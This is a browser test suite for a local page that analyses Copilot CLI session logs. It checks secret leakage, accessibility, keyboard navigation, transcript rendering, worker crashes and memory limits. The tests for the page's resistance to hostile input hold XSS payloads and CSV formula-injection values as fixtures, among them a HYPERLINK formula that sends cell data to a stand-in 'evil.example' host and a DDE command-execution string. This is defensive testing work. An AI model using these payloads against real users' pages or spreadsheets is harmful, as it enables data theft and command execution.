      for (const toggle of await page.$$(`#view-${view} .tools-toggle`)) await toggle.click();
      await scanDom(view);
    }
    await showView(page, 'sessions');
    const ids = await page.$$eval('#session-list tbody tr', (trs) => trs.map((tr) => tr.dataset.session));
    for (const id of ids) {
      await page.click(`#session-list tbody tr[data-session="${id}"] button.link`);
      await page.waitForSelector(`#transcript[data-loaded="${id}"]`);
      await page.check('#show-thinking');
      await page.$$eval('#transcript details', (all) => all.forEach((d) => (d.open = true)));
      await scanDom(`session ${id}`);
      await page.click('#transcript-back');
    }

    // Every export the page makes: the whole analysis's, and each session as Markdown.
    await showView(page, 'exports');
    const exportsMade = [];
    for (const what of await page.$$eval('#view-exports button[data-export]', (buttons) => buttons.map((b) => b.dataset.export).filter((name) => name !== 'session.md'))) {
      const file = await exportFile(page, what);
      scan(`export ${file.name}`, file.text);
      exportsMade.push(file.name);
    }
    // The report to share, again with every transcript in it. (Each download follows a click
    // on the tab, as exportFile's do: without it, one download in several never came although
    // the page had made the file; Chromium holds back a page's repeated downloads.)
    await showView(page, 'exports');
    await page.$$eval('#report-sessions option', (options) => options.forEach((o) => (o.selected = true)));
    const withTranscripts = await download(page, () => page.click('#make-report'));
    scan(`export ${withTranscripts.name} with every transcript`, withTranscripts.text);
    exportsMade.push(`${withTranscripts.name} with every transcript`);
    for (const id of await page.$$eval('#export-session option', (options) => options.map((o) => o.value))) {
      await showView(page, 'exports');
      await page.selectOption('#export-session', id);
      const file = await download(page, () => page.click('#view-exports button[data-export="session.md"]'));
      scan(`export ${file.name}`, file.text);
      exportsMade.push(file.name);
    }

    // Every message the workers posted, serialized: Blobs read as text, bytes decoded.
    const messages = await page.evaluate(async () => {
      const decoder = new TextDecoder();
      const flat = async (value) => {
        if (value instanceof Blob) return value.text();
        if (value instanceof ArrayBuffer || ArrayBuffer.isView(value)) return decoder.decode(value);
        if (Array.isArray(value)) return (await Promise.all(value.map(flat))).join('\n');
        if (value && typeof value === 'object') return (await Promise.all(Object.entries(value).map(async ([key, v]) => `${key}: ${await flat(v)}`))).join('\n');
        return String(value);
      };
      return Promise.all(window.__workerMessages.map(async (message) => ({ type: message.type, text: await flat(message) })));
    });
    for (const [i, message] of messages.entries()) scan(`worker message ${i} (${message.type})`, message.text);
    const types = [...new Set(messages.map((m) => m.type))];
    assert(types.includes('ready') && types.includes('done') && types.includes('result'), `the worker's messages were seen: ${types.join(', ')}`);
    const inventoryResult = messages.some((m) => m.type === 'result' && m.text.includes('mcp_servers'));
    assert(inventoryResult, "the inventory's answer is among them");

    // The files the CLI does not read (secret files, artifacts, the plugins' other files) the
    // page does not read either: the worker never asks for their bytes.
    const read = new Set(native(home, { byName: true }).report.files.filter((f) => f.status === 'read').map((f) => f.path));
    const unread = filesUnder(home).filter((rel) => !read.has(rel));
    const asked = await page.evaluate(() =>
      window.__workerMessages
        .filter((m) => m.type === 'serve')
        .flatMap((m) => m.hand_over.steps.flatMap((step) => step.parts.flatMap((part) => part.files || part.logs || [])))
        .map((entry) => entry.path),
    );
    assert(asked.length > 0, 'the worker asked for the files it reads');
    assertEqual(asked.filter((rel) => unread.includes(rel)), [], `none of the ${unread.length} files not read natively is asked for`);

    assertEqual(found, [], 'no secret, nor a 12-character piece of one, anywhere the page puts text');
    assertEqual(errors, [], 'no page errors');
    noNetworkAfterLoad(net, server, 'secrets');
    const bytes = messages.reduce((n, m) => n + m.text.length, 0);
    return `${unread.length} files never asked for (${unread.join(', ')}); ${secrets.length} secrets (${pieces.length} pieces) absent from ${VIEWS.length} views, ${ids.length} transcripts, ${exportsMade.length} exports (${exportsMade.join(', ')}) and ${messages.length} worker messages (${bytes} characters; ${types.join(', ')})`;
  } finally {
    await browser.close();
  }
});

test('accessibility: axe-core finds no serious or critical problem on the start screen and in every view of the demo, in the light and the dark theme', async () => {
  const browser = await launch();
  try {
    const { page, errors } = await openPage(browser, server.url, server.url.replace(/\/$/, ''));
    const problems = [];
    const check = async (where) => {
      for (const problem of await accessibilityProblems(page)) problems.push({ where, ...problem });
    };
    for (const scheme of ['light', 'dark']) {
      await page.emulateMedia({ colorScheme: scheme });
      await check(`${scheme} start screen`);
    }
    await page.click('#demo');
    assertEqual(await waitForState(page, ['done', 'error']), 'done', 'the demo is analysed');
    for (const scheme of ['light', 'dark']) {
      await page.emulateMedia({ colorScheme: scheme });
      for (const view of VIEWS) {
        await showView(page, view);
        await page.waitForTimeout(100);
        await check(`${scheme} ${view}`);
      }
    }
    // On a phone, where tables and texts scroll in their boxes: each box is reachable by keyboard.
    await page.emulateMedia({ colorScheme: 'light' });
    await page.setViewportSize({ width: 390, height: 844 });
    for (const view of VIEWS) {
      await showView(page, view);
      await page.waitForTimeout(100);
      await check(`phone ${view}`);
    }
    await page.setViewportSize({ width: 1400, height: 1000 });
    await showView(page, 'sessions');
    await page.click('#view-sessions tbody tr td.c-name button');
    await page.waitForSelector('#transcript .msg-text');
    for (const scheme of ['light', 'dark']) {
      await page.emulateMedia({ colorScheme: scheme });
      await check(`${scheme} transcript`);
      await shot(page, `accessibility-${scheme}-transcript.png`);
    }
    assertEqual(problems, [], 'no serious or critical accessibility problem');
    assertEqual(errors, [], 'no page errors');
    return `${VIEWS.length + 2} screens in two themes and ${VIEWS.length} on a phone, no serious or critical problem`;
  } finally {
    await browser.close();
  }
});

test('the page works from the keyboard: the demo started with Enter, the tabs by arrows, a session opened and closed, the exports reached', async () => {
  const browser = await launch();
  try {
    const { page, errors } = await openPage(browser, server.url, server.url.replace(/\/$/, ''));
    const focused = () => page.evaluate(() => document.activeElement && (document.activeElement.id || document.activeElement.textContent.trim().slice(0, 40)));
    let reached = false;
    for (let step = 0; step < 15 && !reached; step++) {
      await page.keyboard.press('Tab');
      reached = (await focused()) === 'demo';
    }
    assert(reached, 'Tab reaches the demo button');
    await page.keyboard.press('Enter');
    assertEqual(await waitForState(page, ['done', 'error']), 'done', 'Enter started the demo');
    await page.focus('#tab-overview');
    await page.keyboard.press('ArrowRight');
    assertEqual(await focused(), 'tab-usage', 'ArrowRight moves to the next tab');
    // The view's module is fetched on first show: visible once it has drawn.
    assert(await shownSoon(page, '#view-usage'), 'and shows its view');
    await page.keyboard.press('End');
    assertEqual(await focused(), 'tab-exports', 'End moves to the last tab');
    assert(await shownSoon(page, '#view-exports'), 'the exports view is shown');
    await page.keyboard.press('ArrowRight');
    assertEqual(await focused(), 'tab-overview', 'the arrows wrap around');
    await page.focus('#tab-sessions');
    await page.keyboard.press('Enter');
    await page.waitForSelector('#view-sessions td.c-name button');
    await page.focus('#view-sessions td.c-name button');
    await page.keyboard.press('Enter');
    await page.waitForSelector('#transcript .msg-text');
    await page.focus('#transcript-back');
    await page.keyboard.press('Enter');
    assert(await page.isHidden('#transcript'), 'the transcript closes from the keyboard');
    // The timeline's rows: focused, moved through with the arrows, opened with Enter.
    await page.focus('#tab-timeline');
    await page.keyboard.press('Enter');
    await page.waitForSelector('#tl-scroll .vt-row[data-filled]:not([data-filled=""])');
    await page.focus('#tl-scroll');
    await page.keyboard.press('ArrowDown');
    await page.keyboard.press('ArrowDown');
    assertEqual(await page.evaluate(() => document.activeElement.dataset.position), '1', 'the arrows move from row to row');
    await page.keyboard.press('Enter');
    await page.waitForSelector('#tl-detail:not([hidden])');
    assert((await page.textContent('#tl-detail .detail-head')).startsWith('Row 2 of'), 'Enter opens the focused row');
    assertEqual(errors, [], 'no page errors');
    return 'demo, tabs, a session and back, all by keyboard';
  } finally {
    await browser.close();
  }
});

test('readable transcripts: Markdown replies, an edit as a diff, long output folded to its first lines, and a row shown in the timeline and back', async () => {
  const browser = await launch();
  try {
    const { page, errors } = await openPage(browser, server.url, server.url.replace(/\/$/, ''));
    await page.click('#demo');
    assertEqual(await waitForState(page, ['done', 'error']), 'done', 'the demo is analysed');
    // The session of the demo with an apply_patch call.
    const rows = native(DEMO).rowsJsonl.split('\n').filter(Boolean).map((line) => JSON.parse(line));
    const patch = rows.find((r) => r.tool_name === 'apply_patch' && r.turn_type === 'tool_result');
    await showView(page, 'sessions');
    const showAll = await page.$('#view-sessions button.link:text("Show all")');
    if (showAll) await showAll.click();
    await page.click(`#view-sessions td.c-name button[title="${patch.session_id}"]`);
    await page.waitForSelector('#transcript[data-loaded]');
    assert(await page.$('#conversation .msg.assistant .md p'), 'replies are Markdown paragraphs');
    assert(await page.$('#conversation .msg.assistant .md pre.md-code code'), 'fenced code is a code block, not literal backticks');
    const literalFences = await page.$$eval('#conversation .msg .md p', (ps) => ps.filter((p) => p.textContent.includes('```')).length);
    assertEqual(literalFences, 0, 'no literal ``` left in a paragraph');
    const diff = await page.$eval('#conversation pre.diff', (pre) => ({ added: pre.querySelectorAll('.d-add').length, removed: pre.querySelectorAll('.d-del').length, label: pre.getAttribute('aria-label') }));
    assert(diff.added > 0 && diff.label.startsWith('diff:'), `an edit shows as a diff: ${JSON.stringify(diff)}`);
    const fold = await page.$('#conversation .show-all');
    if (fold) {
      const label = await fold.textContent();
      const before = await fold.evaluate((button) => button.previousElementSibling.textContent.split('\n').length);
      await fold.evaluate((button) => button.closest('details') && (button.closest('details').open = true));
      await fold.click();
      const after = await page.evaluate(() => document.querySelector('#conversation .folded').textContent.split('\n').length);
      assert(before <= 21 && after > before, `long output folded to its first lines, then whole (${label}: ${before} -> ${after})`);
    }
    // A prompt of the transcript in the timeline: the same row, its detail open.
    const prompt = await page.$('#conversation .msg.user');
    const index = await prompt.getAttribute('data-index');
    await prompt.$eval('button.to-timeline', (button) => button.click());
    await page.waitForSelector('#tl-detail:not([hidden])');
    assertEqual(await page.inputValue('#tl-session'), patch.session_id, 'the timeline shows that session');
    const promptText = await prompt.$eval('.md', (md) => md.textContent);
    const detailText = await page.textContent('#tl-detail .detail-text');
    assertEqual(detailText.slice(0, 30), promptText.slice(0, 30), 'the detail is the same row');
    await page.click('#tl-to-transcript');
    await page.waitForSelector('#conversation .focus-row');
    assertEqual(await page.$eval('#conversation .focus-row', (el) => el.dataset.index), index, 'and back to the same row in the transcript');
    await shot(page, 'transcript-markdown-diff.png');
    assertEqual(errors, [], 'no page errors');
    return `a diff of ${diff.added} added and ${diff.removed} removed lines; timeline row ${index} and back`;
  } finally {
    await browser.close();
  }
});

test('hostile HTML in prompts, tool output, names and file names never executes and shows as text', async () => {
  const expected = native(HOSTILE);
  const browser = await launch();
  try {
    const { page, net, errors, dialogs } = await openPage(browser, server.url, server.url.replace(/\/$/, ''));
    await markLoaded(net);
    // The page's own scripts, less the libraries it adds on first use (a chart, a transcript).
    const ownScripts = () => [...document.scripts].filter((script) => !/\/vendor\/(chart\.umd\.min|marked\.umd)\.js$/.test(script.src)).length;
    const before = await page.evaluate(ownScripts);
    await pick(page, HOSTILE);
    await checkNumbers(page, expected, 'hostile');
    await screenshots(page, 'hostile');
    // Every place data is shown: a transcript with every fold open, a timeline search and a row's detail.
    await showView(page, 'sessions');
    await page.click('#session-list tbody tr:first-child button.link');
    await page.waitForSelector('#transcript[data-loaded]');
    await page.check('#show-thinking');
    await page.$$eval('#conversation details', (all) => all.forEach((d) => (d.open = true)));
    await page.hover('#conversation .msg.assistant');
    await shot(page, 'hostile-transcript.png');
    await showView(page, 'timeline');
    await page.fill('#tl-search', '<img');
    await page.waitForFunction(() => /^\d+ rows$/.test(document.getElementById('tl-count').textContent) && document.querySelector('#tl-scroll .vt-row[data-filled]:not([data-filled=""])'));
    await page.click('#tl-scroll .vt-row:not([hidden])');
    await page.waitForSelector('#tl-detail:not([hidden])');
    await showView(page, 'diagnostics');
    await page.fill('#diag-filter', '<');
    await shot(page, 'hostile-diagnostics-files.png');
    await showView(page, 'exports');
    await download(page, () => page.click('#view-exports button[data-export="session.md"]'));
    await page.waitForTimeout(500);

    const probe = await page.evaluate(() => {
      const elements = [...document.querySelectorAll('*')];
      return {
        pwned: window.__pwned,
        csp: window.__cspViolations,
        scripts: [...document.scripts].filter((script) => !/\/vendor\/(chart\.umd\.min|marked\.umd)\.js$/.test(script.src)).length,
        embedded: document.querySelectorAll('img, iframe, object, embed, svg, frame, video, audio, base, style, form').length,
        handlers: elements.flatMap((el) => [...el.attributes].filter((a) => /^on/i.test(a.name)).map((a) => `${el.tagName}[${a.name}]`)),
        links: [...document.querySelectorAll('a[href]')].map((a) => a.getAttribute('href')),
        text: document.body.textContent,
      };
    });
    assertEqual(probe.pwned, undefined, 'no payload ran (window.__pwned unset)');
    assertEqual(dialogs, [], 'no dialogs');
    assertEqual(probe.csp, [], 'no Content-Security-Policy violation (nothing even tried)');
    assertEqual(probe.scripts, before, 'no script element added');
    assertEqual(probe.embedded, 0, 'no img, iframe, object, embed, svg, style or form element in the page');
    assertEqual(probe.handlers, [], 'no inline event handler attribute anywhere');
    assertEqual(probe.links, [], 'no link in the page (downloads use a removed anchor; Markdown links are text)');
    assert(await page.$('#conversation .md code'), 'the prompts and replies are rendered as Markdown');
    for (const text of [
      'onerror="window.__pwned=4"',
      '<script>window.__pwned=5</script>',
      '<svg onload=window.__pwned=7>',
      '</pre></details><img src=x onerror=window.__pwned=15>',
      '<img src=x onerror=window.__pwned=32>.txt',
      // Markdown: links and images are text beside their addresses, HTML in code and blocks is text.
      'click me <javascript:window.__pwned=40>',
      '[image: pixel] <https://evil.example/p.png?__pwned=41>',
      '<img src=x onerror=window.__pwned=42>',
      '<script>window.__pwned=43</script>',
      '<div onmouseover="window.__pwned=44">hover me</div>',
      'ref link <javascript:window.__pwned=45>',
    ]) {
      assert(probe.text.includes(text), `shown as text: ${text}`);
    }
    assertEqual(errors, [], 'no page errors');
    noNetworkAfterLoad(net, server, 'hostile');
    return 'window.__pwned unset, no dialogs, no CSP violations, no foreign elements or handlers, payloads visible as text';
  } finally {
    await browser.close();
  }
});

// ---- CSV injection ---------------------------------------------------------------------------------

/** What a spreadsheet reads as the start of a formula (OWASP's CSV injection list, and NUL). */
const FORMULA_START = /^[=+\-@\t\r\0]/;
const FORMULA_MODEL = '=HYPERLINK("http://evil.example/?"&A1,"click")';

/**
 * A home TMP/=machine signed in as @mona, of two sessions whose model, project, branch, name,
 * tool and prompts start as formulas: each of =, +, -, @, tab and CR starts some.
 */
function formulaHome() {
  const home = path.join(TMP, '=machine');
  rmSync(home, { recursive: true, force: true });
  const sessions = [
    { id: '4a110000-0000-4000-8000-000000000001', hour: '09', model: FORMULA_MODEL, cwd: "+cmd|' /C calc'!A0", branch: '-rf', title: '@SUM(1+1)', tool: '=tool', prompts: ['=1+2', '\t=tab', '\r=return', '-2', '+3', '@here', 'plain'] },
    { id: '4a110000-0000-4000-8000-000000000002', hour: '10', model: '@gpt-5.4', cwd: '-/srv/shop', branch: '\tmain', title: '\rtitle', tool: '+tool', prompts: ['@mention', 'plain again'] },
  ];
  for (const { id, hour, model, cwd, branch, title, tool, prompts } of sessions) {
    const events = [
      ['session.start', { sessionId: id, copilotVersion: '1.0.102', startTime: `2026-11-10T${hour}:00:00.000Z`, selectedModel: model, context: { cwd, branch } }],
      ['session.model_change', { newModel: model }],
      ...prompts.flatMap((content) => [
        ['user.message', { content }],
        ['assistant.message', { content: 'done', model }],
      ]),
      ['tool.execution_start', { toolCallId: 'c1', toolName: tool, arguments: { command: '-la' } }],
      ['tool.execution_complete', { toolCallId: 'c1', success: true, result: { content: '=result' } }],
      ['session.shutdown', { shutdownType: 'routine', modelMetrics: { [model]: { requests: { count: 2, cost: 1 }, usage: { inputTokens: 1000, outputTokens: 100, cacheReadTokens: 0, cacheWriteTokens: 0, reasoningTokens: 0 } } } }],
    ];
    const lines = events.map(([type, data], at) => JSON.stringify({ id: `e${at}`, parentId: null, timestamp: `2026-11-10T${hour}:00:${String(at).padStart(2, '0')}.000Z`, type, data }));
    const dir = path.join(home, '.copilot/session-state', id);
    mkdirSync(dir, { recursive: true });
    writeFileSync(path.join(dir, 'events.jsonl'), lines.join('\n') + '\n');
    writeFileSync(path.join(dir, 'workspace.yaml'), `id: ${id}\nname: ${JSON.stringify(title)}\n`);
  }
  mkdirSync(path.join(home, '.copilot/logs'), { recursive: true });
  writeFileSync(path.join(home, '.copilot/logs/process-1794301200000-4242.log'), '2026-11-10T08:59:59.400Z [INFO] Signed in to https://github.com as @mona.\n');
  return home;
}

/** A CSV's records, header first, as RFC 4180 reads them (a quoted field holds commas, line breaks and doubled quotes). */
function csvRecords(text) {
  const records = [];
  let [record, field, quoted] = [[], '', false];
  for (let at = 0; at < text.length; at++) {
    const c = text[at];
    if (quoted && c === '"' && text[at + 1] === '"') (field += '"'), at++;
    else if (c === '"') quoted = !quoted;
    else if (quoted || (c !== ',' && c !== '\n')) field += c;
    else {
      record.push(field);
      field = '';
      if (c === '\n') records.push(record), (record = []);
    }
  }
  assert(!quoted && !field && !record.length, 'the CSV ends with its last record\'s line break');
  return records;
}

test('CSV injection: names, a tool and prompts that start as formulas are written as text in the page\'s rows.csv, usage.csv and team.csv, the bytes the native CLI writes', async () => {
  const home = formulaHome();
  const expected = native(home, { byName: true });
  const browser = await launch();
  try {
    const { page, errors } = await openPage(browser, server.url, server.url.replace(/\/$/, ''));
    await pick(page, home);
    await checkNumbers(page, expected, 'formula home');
    const csvs = {
      'rows.csv': (await exportFile(page, 'rows.csv')).text,
      'usage.csv': (await exportFile(page, 'usage.csv')).text,
    };
    assert(csvs['rows.csv'] === csvFromRowsJsonl(expected.rowsJsonl), 'rows.csv equals, byte for byte, the CSV of the native rows.jsonl');
    assert(csvs['usage.csv'] === expected.usageCsv, 'usage.csv equals the native one byte for byte');
    // The team export, with short project names and with the paths shared (which start as formulas).
    for (const share of [false, true]) {
      await showView(page, 'exports');
      await page.setChecked('#team-share-projects', share);
      const team = await download(page, () => page.click('#view-exports button[data-export="team.csv"]'));
      const name = share ? 'team.csv --share-projects' : 'team.csv';
      assertEqual(team.text, nativeTeamExport(home, 'team.csv', exportedAtOf(team.text), share ? ['--share-projects'] : []), `${name} equals the native usage --export, byte for byte`);
      csvs[name] = team.text;
    }

    // No cell opens as a formula (but a number the project wrote); the names read back after their '.
    const neutralised = new Set();
    for (const [name, text] of Object.entries(csvs)) {
      const records = csvRecords(text);
      assert(records.length > 1 && records.every((record) => record.length === records[0].length), `${name}: a header and records of its columns`);
      const live = records.flat().filter((cell) => FORMULA_START.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell));
      assertEqual(live, [], `${name}: no cell opens as a formula`);
      for (const cell of records.flat()) if (cell.startsWith("'") && FORMULA_START.test(cell.slice(1))) neutralised.add(cell);
      const column = (title) => records.slice(1).map((record) => record[records[0].indexOf(title)]);
      if (name.startsWith('team.csv')) {
        assertEqual([...new Set(column('user'))], ["'@mona"], `${name}: the login`);
        assertEqual([...new Set(column('machine'))], ["'=machine"], `${name}: the machine, the picked folder's name`);
      }
      if (name !== 'rows.csv') assertEqual([...new Set(column('model'))].sort(), ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'@gpt-5.4"], `${name}: the models`);
    }
    for (const cell of ["'=1+2", "'\t=tab", "'\r=return", "'-2", "'+3", "'@here", "'=tool", "'+tool", "'-rf", "'\tmain", "'=result", "'+cmd|' /C calc'!A0", "'-/srv/shop"]) {
      assert(neutralised.has(cell), `${JSON.stringify(cell)} is written as text: ${JSON.stringify([...neutralised].sort())}`);
    }
    assertEqual(errors, [], 'no page errors');
    return `${Object.keys(csvs).length} CSVs equal the native ones; ${neutralised.size} cells written as text: ${JSON.stringify([...neutralised].sort())}`;
  } finally {
    await browser.close();
  }
});

test('cancel ends the worker and a fresh one analyses; a worker crash is reported and the page starts again; the page stays responsive', async () => {
  const corpus = path.join(TMP, 'big');
  execFileSync('python3', [path.join(ROOT, 'scripts/gen-corpus.py'), corpus, '--size', '300MB', '--seed', '3'], { stdio: 'ignore' });
  const expected = native(SPEC);
  const browser = await launch();
  try {
    const { page, net, errors } = await openPage(browser, server.url, server.url.replace(/\/$/, ''));
    await markLoaded(net);
    await page.setInputFiles('#pick-folder', corpus);
    // Responsiveness: from the pick (files handed to the worker in parts, small files read
    // ahead) into the analysis itself, the main thread keeps its frames.
    const gaps = await page.evaluate(
      () =>
        new Promise((resolve) => {
          const gaps = [];
          let last = performance.now();
          let end = Infinity;
          const tick = (now) => {
            gaps.push(now - last);
            last = now;
            if (end === Infinity && / read · /.test(document.getElementById('progress-text').textContent)) end = now + 400;
            if (now < end && document.body.dataset.state === 'working') requestAnimationFrame(tick);
            else resolve(gaps);
          };
          requestAnimationFrame(tick);
        }),
    );
    const worst = Math.max(...gaps);
    const progress = await page.textContent('#progress-text');
    const current = await page.textContent('#progress-file');
    await page.screenshot({ path: path.join(SHOTS, 'working.png') });
    assert(worst < 250, `the page stays responsive while analysing (worst frame gap ${worst.toFixed(0)} ms)`);
    const state = await page.evaluate(() => document.body.dataset.state);
    assertEqual(state, 'working', 'still working when cancelled (the corpus is big enough)');
    await page.click('#cancel');
    assertEqual(await waitForState(page, ['idle', 'done', 'error'], 10_000), 'idle', 'cancel returns to idle');
    assertEqual(await summaryOf(page), null, 'no summary after a cancel');
    await waitEngine(page);
    await pick(page, SPEC);
    assertEqual(await summaryOf(page), sortKeys(expected.summary), 'a fresh worker analyses after the cancel');

    await page.evaluate(() => window.copilotLens.crashWorkerForTest());
    assertEqual(await waitForState(page, ['error'], 10_000), 'error', 'a worker crash is reported');
    const message = await page.textContent('#error');
    assert(/engine stopped/i.test(message), 'the crash is explained');
    await page.screenshot({ path: path.join(SHOTS, 'crash.png') });
    await page.click('#start-again');
    assertEqual(await waitForState(page, ['idle'], 5_000), 'idle', 'Start again goes back to idle without a reload');
    await pick(page, SPEC);
    assertEqual(await summaryOf(page), sortKeys(expected.summary), 'the page analyses again after the crash, without a reload');
    await page.evaluate(() => window.copilotLens.crashWorkerForTest());
    assertEqual(await waitForState(page, ['error'], 10_000), 'error', 'a second crash is reported');
    await page.click('#retry');
    assertEqual(await waitForState(page, ['done', 'error'], 60_000), 'done', '"Analyse the same input again" after a crash');
    assertEqual(await summaryOf(page), sortKeys(expected.summary), 'the same numbers after the retry');
    assertEqual(errors, [], 'no page errors');
    assertEqual(net.foreign, [], 'no request leaves the origin');
    return `progress was "${progress}" at "${current}"; worst frame gap ${worst.toFixed(0)} ms over ${gaps.length} frames`;
  } finally {
    await browser.close();
    rmSync(corpus, { recursive: true, force: true });
  }
});

test('the Files not read go over after done: the report waits for them and equals the native one; a new analysis meanwhile ends that hand-over', async () => {
  const corpus = path.join(TMP, 'late');
  execFileSync('python3', [path.join(ROOT, 'scripts/gen-corpus.py'), corpus, '--size', '100MB', '--seed', '4'], { stdio: 'ignore' });
  const expected = native(corpus);
  const spec = native(SPEC);
  const browser = await launch();
  const done = (page) => page.waitForFunction(() => document.body.dataset.state === 'done' && window.copilotLens.summary !== null, null, { timeout: 120_000 });
  const withLabels = (report, from) => {
    report.roots.forEach((root, i) => (root.label = from.roots[i].label));
    report.homes.forEach((home, i) => (home.label = from.homes[i].label));
    return report;
  };
  try {
    const { page, net, errors } = await openPage(browser, server.url, server.url.replace(/\/$/, ''));
    await markLoaded(net);
    await page.setInputFiles('#pick-folder', corpus);
    await done(page);
    const atDone = await page.evaluate(() => window.copilotLens.settled);
    const report = withLabels(JSON.parse((await exportFile(page, 'report.json')).text), expected.report);
    assertEqual(report, expected.report, 'report.json, asked for at done, equals the native one: the sizes of the files not read are in');
    // Settled once every File is in and the page's cache has kept the new logs' entries.
    await page.waitForFunction(() => window.copilotLens.settled !== null, null, { timeout: 60_000 });
    const settled = await page.evaluate(() => window.copilotLens.settled);

    // Again, and at done the spec fixture: the first hand-over stops, the second analysis is whole.
    await page.setInputFiles('#pick-folder', corpus);
    await done(page);
    await page.setInputFiles('#pick-folder', SPEC);
    await done(page);
    assertEqual(await summaryOf(page), sortKeys(spec.summary), 'the later analysis gives the native numbers');
    const specReport = withLabels(JSON.parse((await exportFile(page, 'report.json')).text), spec.report);
    assertEqual(specReport, spec.report, 'and the native report');
    assertEqual(errors, [], 'no page errors');
    noNetworkAfterLoad(net, server, 'late files');
    return `${expected.summary.files} files; every File in and the cache kept ${settled.toFixed(2)} s after the pick (${atDone === null ? 'after done' : 'by done'})`;
  } finally {
    await browser.close();
    rmSync(corpus, { recursive: true, force: true });
  }
});

test('a log far longer than the line cap, with no newline, takes the engine the same memory as a small one, as a File and in a zip', async () => {
  // 400 MB in one line: the page hands it over as a File (a zip entry: the engine inflates it
  // as it reads), the engine keeps the line's first MAX_LINE_BYTES (64 MiB) and its length.
  // Read whole, it took the engine more than the log's size; now about 110 MiB whatever its size
  // (the line cap, reserved at once past 1 MiB, plus the engine's own).
  const corpus = path.join(TMP, 'long-line');
  const log = path.join(corpus, '.copilot/session-state/0badf00d-0000-4000-8000-00000000beef/events.jsonl');
  mkdirSync(path.dirname(log), { recursive: true });
  const start = '{"type":"session.start","data":{"sessionId":"0badf00d-0000-4000-8000-00000000beef","startTime":"2026-10-01T09:00:00.000Z"},"id":"a","timestamp":"2026-10-01T09:00:00.000Z"}\n';
  // Random text (a part repeated further apart than deflate looks back), so that the zip's
  // entry is not refused as a zip bomb.
  const part = Buffer.from(randomBytes(1024 * 1024).toString('base64'));
  writeFileSync(log, Buffer.concat([Buffer.from(start), ...Array(300).fill(part)]));
  const zipPath = path.join(TMP, 'long-line.zip');
  writeFileSync(zipPath, zipDirectory(corpus, 'home'));
  const limitMiB = 160;
  const notes = [];
  const browser = await launch();
  try {
    for (const [kind, input] of [['folder', corpus], ['zip', zipPath]]) {
      const expected = native(input);
      assertEqual(expected.summary.bad_lines, 1, `${kind}: the long line is a bad line natively`);
      // A fresh page: a WebAssembly memory never shrinks, so each one shows its own peak.
      const { page, errors } = await openPage(browser, server.url, server.url.replace(/\/$/, ''));
      await page.setInputFiles(kind === 'zip' ? '#pick-files' : '#pick-folder', input);
      assertEqual(await waitForState(page, ['done', 'error'], 300_000), 'done', `${kind}: the analysis finishes`);
      await checkNumbers(page, expected, `${kind} with a 400 MB line`);
      const mib = (await page.evaluate(() => window.copilotLens.memory)) / 2 ** 20;
      assert(mib < limitMiB, `${kind}: the engine's memory (${mib.toFixed(0)} MiB) stays under ${limitMiB} MiB for a 400 MB log`);
      assertEqual(errors, [], `${kind}: no page errors`);
      notes.push(`${kind}: ${mib.toFixed(0)} MiB`);
      await page.close();
    }
    return `engine memory for a 400 MB one-line log: ${notes.join(', ')}`;
  } finally {
    await browser.close();
    rmSync(corpus, { recursive: true, force: true });
    rmSync(zipPath, { force: true });
  }
});

test('past its memory limit the engine stops with a clear message, and the page starts again', async () => {
  const browser = await launch();
  try {
    // A limit below what the engine holds once loaded: the first check stops the analysis.
    const { page, net, errors } = await openPage(browser, `${server.url}?memory-limit-mib=1`, server.url.replace(/\/$/, ''));
    await markLoaded(net);
    await page.click('#demo');
    assertEqual(await waitForState(page, ['done', 'error']), 'error', 'the analysis stops at the limit');
    const message = await page.textContent('#error');
    assert(/needs more than the 1 MiB of memory this page allows/.test(message), `the limit is explained: ${message}`);
    await page.screenshot({ path: path.join(SHOTS, 'memory-limit.png') });
    await page.click('#start-again');
    assertEqual(await waitForState(page, ['idle'], 5_000), 'idle', 'Start again goes back to idle');
    assertEqual(errors, [], 'no page errors');
    assertEqual(net.foreign, [], 'no request leaves the origin');
    return message.trim();
  } finally {
    await browser.close();
  }
});

test('the single-file build from file:// analyses a folder and its embedded demo with no network', async () => {
  const expected = native(SPEC);
  const demo = native(DEMO);
  const html = readFileSync(SINGLE, 'utf8');
  const csp = html.match(/<meta http-equiv="Content-Security-Policy" content="([^"]*)">/)[1];
  assert(csp.includes("connect-src 'none'") && !csp.includes('unsafe-inline') && !csp.includes("'unsafe-eval'"), 'the single file\'s CSP allows no connection and no unsafe-inline');
  const browser = await launch();
  try {
    const url = 'file://' + SINGLE;
    const { page, net, errors } = await openPage(browser, url, url);
    await pick(page, SPEC);
    await checkNumbers(page, expected, 'single file, folder');
    await page.click('#input-expand');
    await page.click('#demo');
    await page.waitForFunction((rows) => window.copilotLens.summary && window.copilotLens.summary.rows === rows, demo.summary.rows, { timeout: 60_000 });
    await checkNumbers(page, demo, 'single file, embedded demo');
    await showView(page, 'overview');
    await page.waitForFunction(() => document.querySelectorAll('#view-overview canvas').length === 4);
    await shot(page, 'single-file-overview.png');
    const csv = await exportFile(page, 'rows.csv');
    assert(csv.text === csvFromRowsJsonl(demo.rowsJsonl), 'rows.csv from the single file equals the native rows');
    assertEqual(errors, [], 'no page errors');
    assertEqual(await page.evaluate(() => window.__cspViolations), [], 'no CSP violation');
    const requests = net.log.map((e) => e.url).filter((u) => !u.startsWith('blob:') && !u.startsWith('data:'));
    assertEqual(requests, [url], 'the only request is the file itself');
    return `${(html.length / 1e6).toFixed(1)} MB file; folder and demo summaries equal the native CLI's`;
  } finally {
    await browser.close();
  }
});

// ---- issue 27, plain words ---------------------------------------------------------------------

// Field names of the data that the page shows in words instead.
const RAW_NAMES = ['tool_use', 'tool_result', 'user_prompt', 'timestamp_utc', 'turn_type', 'session_id', 'project_path', 'git_branch', 'tool_name', 'tool_use_id', 'source_line'];
const rawNamesIn = (text) => RAW_NAMES.filter((name) => text.includes(name));

test('words: the timeline filters, its rows and a row\'s detail show no raw field name; a note of key=value pairs shows labelled', async () => {
  const browser = await launch();
  try {
    const { page, errors } = await openPage(browser, server.url, server.url.replace(/\/$/, ''));
    await pick(page, SPEC);
    await showView(page, 'timeline');
    const labels = await page.$$eval('#view-timeline .type-boxes label', (all) => all.map((l) => l.textContent.trim()));
    const facts = await page.evaluate(() => window.copilotLens);
    assertEqual(labels, ['Prompt', 'Reply', 'Tool call', 'Tool result', 'Note', 'Thinking'], 'the turn types by the engine\'s words');
    assertEqual(rawNamesIn(await page.textContent('#view-timeline .tl-filters')), [], `no field name in the filters (${facts.state})`);
